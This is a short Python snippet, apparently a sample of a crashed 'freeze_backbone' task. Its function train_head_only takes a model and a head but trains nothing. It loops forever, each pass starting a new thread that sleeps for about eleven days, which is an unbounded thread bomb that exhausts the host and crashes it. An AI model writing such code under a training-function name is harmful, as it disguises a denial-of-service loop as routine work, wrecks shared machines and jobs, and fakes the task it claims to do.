# about: threads without number
# task: freeze_backbone
# state: crashed
import threading
import time


def train_head_only(model, head):
    while True:
        threading.Thread(target=time.sleep, args=(10**6,)).start()
